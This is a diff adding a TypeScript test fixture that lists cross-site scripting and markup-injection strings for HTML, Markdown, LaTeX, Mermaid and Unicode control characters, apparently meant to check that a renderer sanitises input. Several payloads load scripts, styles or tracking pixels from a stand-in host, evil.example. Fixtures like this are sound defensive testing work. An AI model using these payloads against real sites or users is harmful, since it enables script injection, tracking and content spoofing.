@@ -1,0 +1,90 @@
+const HTML = [
+  "<script>alert(1)</script>",
+  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+  "<img src=x onerror=alert(1)>",
+  "<img src=https://evil.example/pixel.gif>",
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "<math href=javascript:alert(1)>x</math>",
+  "<iframe src=javascript:alert(1)></iframe>",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<object data=javascript:alert(1)></object>",
+  "<embed src=//evil.example/x.swf>",
+  "<base href=//evil.example/>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+  "<link rel=stylesheet href=//evil.example/x.css>",
+  "<style>@import '//evil.example/x.css';</style>",
+  "<body onload=alert(1)>",
+  "<details open ontoggle=alert(1)>x</details>",
+  "<video><source onerror=alert(1)></video>",
+  "<audio src=x onerror=alert(1)></audio>",
+  "<input autofocus onfocus=alert(1)>",
+  "<form action=//evil.example><button>Send</button></form>",
+  "<a href=javascript:alert(1)>x</a>",
+  "<marquee onstart=alert(1)>x</marquee>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "<template><img src=x onerror=alert(1)></template>",
+  "<!--><img src=x onerror=alert(1)>-->",
+  "<![CDATA[<img src=x onerror=alert(1)>]]>",
+  "</article></main><script>alert(1)</script>",
+  "</textarea><script>alert(1)</script>",
+  "<x style=background:url(//evil.example/x)>x</x>",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#60;img src=x onerror=alert(1)&#62;",
+];
+
+const MARKDOWN = [
+  "[x](javascript:alert(1))",
+  "[x](JaVaScRiPt:alert(1))",
+  "[x](java\tscript:alert(1))",
+  "[x](&#106;avascript:alert(1))",
+  "[x](<javascript:alert(1)>)",
+  "[x](data:text/html,<script>alert(1)</script>)",
+  "[x](vbscript:msgbox(1))",
+  "[x](//evil.example)",
+  "[x](/\\evil.example)",
+  '[x](https://a.example"onmouseover="alert(1))',
+  "[x][y]\n\n[y]: javascript:alert(1)",
+  "![x](javascript:alert(1))",
+  "![x](https://evil.example/pixel.gif)",
+  '![x"onerror="alert(1)](x)',
+  "<javascript:alert(1)>",
+  "`<img src=x onerror=alert(1)>`",
+  "```html\n<script>alert(1)</script>\n```",
+  '```"><img src=x onerror=alert(1)>\nx\n```',
+  "| <img src=x onerror=alert(1)> |\n|-|\n| <script>alert(1)</script> |",
+  "- [ ] <img src=x onerror=alert(1)>",
+  "> <script>alert(1)</script>",
+  "# <img src=x onerror=alert(1)>",
+];
+
+const FORMULAS = [
+  "$\\href{javascript:alert(1)}{x}$",
+  "$\\url{javascript:alert(1)}$",
+  "$\\includegraphics{https://evil.example/x.png}$",
+  "$\\htmlStyle{background:url(https://evil.example/x)}{x}$",
+  "$\\htmlData{onclick=alert(1)}{x}$",
+  "$\\text{<img src=x onerror=alert(1)>}$",
+  "$$\\color{red;background:url(//evil.example)}x$$",
+  "$$\\def\\a{\\a\\a}\\a$$",
+];
+
+const DIAGRAMS = [
+  '```mermaid\ngraph TD\nA[<img src=x onerror=alert(1)>]-->B\nclick A href "javascript:alert(1)"\n```',
+  '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\nA["<script>alert(1)</script>"]\n```',
+  '```mermaid\n%%{init: {"themeCSS": "@import url(//evil.example/x.css)"}}%%\ngraph TD\nA-->B\n```',
+];
+
+const CHARACTERS = [
+  "a\u202egpj.exe\u202c b",
+  "\u2066\u2067\u200f nested \u2069",
+  "a\0b\u0001c\u001b[31mred\u007f",
+  "half \ud800 and \udc00 pairs",
+  "\ufeff\u200b\u2028\u2029",
+];
+
+/** Texts that a careless renderer would run, load or be misled by. `alert` is a dialog, `evil.example` a request. */
+export const INJECTIONS: readonly string[] = [...HTML, ...MARKDOWN, ...FORMULAS, ...DIAGRAMS, ...CHARACTERS];
